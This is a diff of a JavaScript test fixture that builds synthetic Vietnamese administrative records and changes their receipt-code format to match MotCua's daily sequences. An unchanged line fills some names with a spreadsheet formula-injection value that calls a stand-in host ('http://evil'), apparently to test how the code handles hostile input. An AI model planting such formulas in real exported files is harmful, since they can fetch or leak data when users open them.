@@ -623,7 +623,8 @@ describe('the real process', () => {
         const name = i === 123_456 ? 'x'.repeat(50_000) : i % 5 === 0 ? '=IMPORTXML("http://evil","//a")' : `Người ${i}`;
         lines.push(
           [
-            `000.17.22.H56-2501${p(day)}-${String(i).padStart(6, '0')}`,
+            // Codes as MotCua issues them: the receipt day and that day's sequence, without gaps.
+            `000.17.22.H56-25${p(month)}${p(day)}-${String(Math.floor(i / 336) + 1).padStart(4, '0')}`,
             i % 2 ? 'Xã A' : 'Xã B',
             i % 4 ? 'Trực tiếp' : 'Trực tuyến',
             receivedCell,
